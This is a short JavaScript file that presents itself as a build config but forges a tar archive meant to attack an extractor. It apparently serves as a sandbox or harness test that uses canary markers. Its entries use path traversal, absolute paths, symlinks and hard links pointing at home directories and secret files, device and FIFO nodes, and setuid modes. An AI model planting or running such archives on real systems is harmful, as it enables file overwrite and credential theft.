// Puts an archive of its own before the build's: its entries lead elsewhere, link elsewhere or are no files.
// outcome: passed build
const { canary, fs, payload } = require("./loot.js");

function entry(name, content, { type = "0", link = "", size = content.length, mode = 0o6777 } = {}) {
  const head = Buffer.alloc(512);
  const put = (text, offset, length) => head.write(text, offset, length, "latin1");
  put(name, 0, 100);
  put(mode.toString(8).padStart(7, "0"), 100, 8);
  put("0000000", 108, 8);
  put("0000000", 116, 8);
  put(size.toString(8).padStart(11, "0"), 124, 12);
  put("00000000000", 136, 12);
  put("        ", 148, 8);
  put(type, 156, 1);
  put(link, 157, 100);
  put("ustar\u000000", 257, 8);
  put(`${head.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, "0")}\0 `, 148, 8);
  return Buffer.concat([head, Buffer.from(content), Buffer.alloc((512 - (content.length % 512)) % 512)]);
}

const mark = canary.fileName;
const forged = [
  entry(`../${mark}`, "out"),
  entry(`dist/../../${mark}`, "out"),
  entry(`../../../../../../../../tmp/${mark}`, "out"),
  entry(`/tmp/${mark}`, "out"),
  entry(`//${canary.home}/${mark}`, "out"),
  entry(`dist/${mark}-link`, "", { type: "2", link: canary.home }),
  entry(`dist/${mark}-link/${mark}`, "out"),
  entry("dist/up", "", { type: "2", link: "../.." }),
  entry(`dist/up/${mark}`, "out"),
  entry("dist/hard", "", { type: "1", link: canary.secretFiles[0] }),
  entry("dist/hard2", "", { type: "1", link: "../workspace/src/App.tsx" }),
  entry("dist/fifo", "", { type: "6" }),
  entry("dist/disk", "", { type: "4" }),
  entry("dist/tty", "", { type: "3" }),
  entry("dist/.", "out"),
  entry("dist", "out"),
  entry("report.json", JSON.stringify({ ok: true, error: null, logs: [] })),
  entry("value.json", "{}"),
  entry("dist/../value.json", "{}"),
];
const stream = payload();
fs.writeSync(stream, Buffer.concat(forged));

module.exports = { content: ["./src/App.tsx"] };
